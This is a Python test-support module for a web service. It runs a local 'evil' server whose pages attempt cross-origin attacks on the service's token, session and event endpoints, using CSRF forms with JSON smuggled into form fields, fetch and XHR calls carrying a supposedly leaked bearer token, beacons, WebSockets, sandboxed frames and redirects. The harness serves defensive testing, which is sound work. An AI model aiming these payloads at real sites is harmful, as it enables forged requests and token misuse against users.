"""Pages that attack the service from other origins, and the servers that serve them."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from server.serving import PAGE_CSS, PAGE_JS

WRITE = '{"name": "attack"}'
"""What each attack tries to send to `/api/v1/tokens`, with whatever it can."""

PRELUDE = """<!doctype html><meta charset="utf-8"><body><script>
const TARGET = "%(target)s", WRITE = `%(write)s`, TOKEN = "%(token)s";
let said = []; const say = (text) => said.push(String(text));
const done = () => fetch("/done?" + encodeURIComponent(JSON.stringify(said)));
const wait = (ms) => new Promise((then) => setTimeout(then, ms));
const read = async (answer) => say(answer.type + " " + answer.status + " " + (await answer.text()));
async function attack() { %(code)s }
attack().catch((error) => say("refused " + error)).finally(done);
</script></body>"""


def tag(name: str, attribute: str, path: str) -> str:
    """An attack that loads something by a tag and looks into it."""
    return f"""
      const it = document.createElement("{name}"); it.{attribute} = TARGET + "{path}";
      const ended = new Promise((then) => {{ it.onload = () => then("loaded"); it.onerror = () => then("failed"); }});
      document.body.append(it);
      say(await Promise.race([ended, wait(1500)]));
      try {{ say(it.contentDocument ? it.contentDocument.body.innerText : it.naturalWidth); }} catch (e) {{ say("refused"); }}
      say(Object.keys(window).includes("tokens"));"""


def form(kind: str, method: str = "POST") -> str:
    """An attack by a form, sent into a frame."""
    return f"""
      const frame = document.createElement("iframe"); frame.name = "sink"; document.body.append(frame);
      const it = document.createElement("form"); it.target = "sink"; it.method = "{method}"; it.enctype = "{kind}";
      it.action = TARGET + "/api/v1/tokens";
      const field = document.createElement("input"); field.name = WRITE.slice(0, -1) + ', "x": "'; field.value = '"}}';
      it.append(field); document.body.append(it); it.submit(); await wait(800);
      try {{ say(frame.contentDocument.body.innerText); }} catch (e) {{ say("refused"); }}"""


def asking(how: str, path: str = "/api/v1/tokens") -> str:
    """An attack by fetch."""
    return f"await read(await fetch(TARGET + '{path}', {{ {how} }}));"


ATTACKS = {
    "form, urlencoded": form("application/x-www-form-urlencoded"),
    "form, text/plain as JSON": form("text/plain"),
    "form, multipart": form("multipart/form-data"),
    "form, get": form("", "GET"),
    "fetch, simple post": asking("method: 'POST', body: WRITE"),
    "fetch, no-cors post": asking("method: 'POST', mode: 'no-cors', body: WRITE, credentials: 'include'"),
    "fetch, cors post with JSON": asking("method: 'POST', headers: {'Content-Type': 'application/json'}, body: WRITE"),
    "fetch, cors get with the very token": asking("headers: {Authorization: 'Bearer ' + TOKEN}", "/api/v1/session"),
    "fetch, text/plain with the very token": asking(
        "method: 'POST', headers: {Authorization: 'Bearer ' + TOKEN, 'Content-Type': 'text/plain'}, body: WRITE"
    ),
    "fetch, no-cors get": asking("mode: 'no-cors'", "/"),
    "beacon": "say(navigator.sendBeacon(TARGET + '/api/v1/tokens', WRITE)); await wait(500);",
    "beacon, JSON": """say(navigator.sendBeacon(TARGET + '/api/v1/tokens', new Blob([WRITE], {type: 'application/json'})));
      await wait(500);""",
    "image": tag("img", "src", "/api/v1/tokens"),
    "script": tag("script", "src", PAGE_JS),
    "frame": tag("iframe", "src", "/"),
    "object": tag("object", "data", "/"),
    "style sheet and prefetch": """for (const rel of ["stylesheet", "prefetch", "preload"]) {
        const it = document.createElement("link"); it.rel = rel; it.href = TARGET + "PAGE_CSS"; it.as = "style";
        document.head.append(it); }
      await wait(800); for (const sheet of document.styleSheets) { try { say(sheet.cssRules.length); } catch (e) { say("refused"); } }""".replace(
        "PAGE_CSS", PAGE_CSS
    ),
    "WebSocket": """const it = new WebSocket(TARGET.replace("http", "ws") + "/api/v1/events/ws");
      await new Promise((then) => { it.onopen = () => { say("open"); it.send(JSON.stringify({token: TOKEN})); };
        it.onmessage = (message) => { say(message.data); then(); }; it.onclose = it.onerror = () => { say("refused"); then(); }; });""",
    "sandboxed frame with origin null": """const it = document.createElement("iframe"); it.sandbox = "allow-scripts";
      it.srcdoc = `<script>fetch("${TARGET}/api/v1/session", {headers: {Authorization: "Bearer ${TOKEN}"}}).then((a) => a.text())
        .then((t) => parent.postMessage(t, "*"), () => parent.postMessage("refused", "*"))<` + `/script>`;
      const heard = new Promise((then) => { onmessage = (event) => then(event.data); });
      document.body.append(it); say(await Promise.race([heard, wait(1500)]));""",
    "window.open and postMessage": """const it = window.open(TARGET + "/"); await wait(1000);
      try { it.postMessage(WRITE, "*"); say(it.document.body.innerText); } catch (e) { say("refused"); }""",
    "service worker of ours": """try { await navigator.serviceWorker.register(TARGET + "PAGE_JS"); say("registered"); }
      catch (e) { say("refused"); }""".replace("PAGE_JS", PAGE_JS),
    "import of our module": f"const m = await import(TARGET + '{PAGE_JS}'); say(Object.keys(m));",
    "redirect to us": "await read(await fetch('/redirect', {method: 'POST', body: WRITE, mode: 'no-cors'}));"
    "await read(await fetch('/redirect'));",
    "event source": """const it = new EventSource(TARGET + "/api/v1/events"); it.onmessage = (m) => say(m.data);
      it.onerror = () => say("refused"); await wait(600);""",
    "xhr": """const it = new XMLHttpRequest(); it.open("DELETE", TARGET + "/api/v1/tokens/1");
      it.setRequestHeader("Authorization", "Bearer " + TOKEN);
      await new Promise((then) => { it.onload = () => { say(it.responseText); then(); }; it.onerror = () => { say("refused"); then(); }; it.send(); });""",
}
"""Each by its name; the token is given to it, as if it had leaked, wherever it has a way to send one."""


@dataclass
class Evil:
    """The attacker's web server."""

    port: int
    target: str = ""
    token: str = ""
    pages: dict[str, str] = field(default_factory=dict)

    def page(self, name: str, target: str | None = None) -> str:
        """Path of the page of an attack; it aims at the target."""
        path = f"/attack-{len(self.pages)}"
        told = {"target": target or self.target, "write": WRITE, "token": self.token, "code": ATTACKS[name]}
        self.pages[path] = PRELUDE % told
        return path


@contextmanager
def evil_server() -> Iterator[Evil]:
    """A web server of another origin on this machine."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.partition("?")[0]
            if path == "/redirect":
                self.send_response(307)
                self.send_header("Location", f"{evil.target}/api/v1/tokens")
                self.end_headers()
                return
            body = evil.pages.get(path, "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Set-Cookie", "yard=1; Path=/")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *_: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    evil = Evil(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield evil
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
